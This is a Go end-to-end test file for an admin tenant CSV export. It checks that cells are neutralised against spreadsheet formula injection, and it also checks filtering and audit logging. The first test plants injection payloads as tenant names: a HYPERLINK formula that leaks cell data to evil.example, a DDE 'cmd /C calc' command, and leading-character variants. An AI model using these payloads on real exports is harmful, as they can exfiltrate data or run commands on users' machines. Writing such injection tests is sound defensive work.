package e2e

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
)

func TestExport_IsSafeToOpenInASpreadsheet(t *testing.T) {
	w := newWorld(t, sqliteDatabase(t), setting{"FLOWHQ_REPLICA_NAME", "=replica"})
	admin := w.admin(t, "admin@example.com")
	formulas := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "=1\"2", "-", "Saluni, \"Amina\"\nMikocheni", "Ñandú ❤ جميل"}
	for _, name := range formulas {
		w.created(t, input{"name": name, "business_name": name})
	}
	for i, lead := range []string{"\t", "\r", "\n"} {
		w.change(t, "UPDATE tenants SET name = $1 WHERE name = $2", lead+"=1+1", formulas[i])
	}
	a := admin.get("/admin/tenants.csv")
	a.is(t, "the export", http.StatusOK, "")
	if kind := a.header.Get("Content-Type"); kind != "text/csv; charset=utf-8" || a.header.Get("Content-Disposition") != `attachment; filename="tenants.csv"` {
		t.Errorf("the export is %s %s", kind, a.header.Get("Content-Disposition"))
	}
	body, marked := strings.CutPrefix(a.body, "\uFEFF")
	if !marked {
		t.Error("the export does not say that it is UTF-8")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("the export has %d rows (%v), want %d", len(rows), err, len(formulas)+1)
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(cell[0])) {
				t.Errorf("%s is the formula %q", rows[0][i], cell)
			}
		}
	}
	for _, whole := range []string{"Ñandú ❤ جميل", "'-2+3", "'\t=1+1"} {
		if !strings.Contains(a.body, whole) {
			t.Errorf("the export lacks %q", whole)
		}
	}
}

func TestExport_HoldsWhatTheFilterMatchesAndIsNoted(t *testing.T) {
	t.Parallel()
	inWorld(t, func(t *testing.T, w *world) {
		admin := w.admin(t, "admin@example.com")
		for range 60 { // more than a page of the list
			w.created(t, input{"name": "Duka la Baraka"})
		}
		w.created(t, input{"name": "Hoteli Bahari"})
		lines := func(query string) int {
			t.Helper()
			return strings.Count(admin.get("/admin/tenants.csv"+query).body, "\n") - 1
		}
		for query, want := range map[string]int{"": 61, "?q=Baraka": 60, "?q=Bahari": 1, "?status=ACTIVE": 0, "?q=Baraka&status=NEW": 60, "?cursor=x": 61} {
			if got := lines(query); got != want {
				t.Errorf("the export%s has %d rows, want %d", query, got, want)
			}
		}
		noted := w.rows(t, "SELECT actor, after_json FROM audit_log WHERE action = 'tenant.export'")
		if len(noted) != 6 || noted[0][0] != "admin@example.com" {
			t.Errorf("the audit log says %v of 6 exports", noted)
		}
	})
}
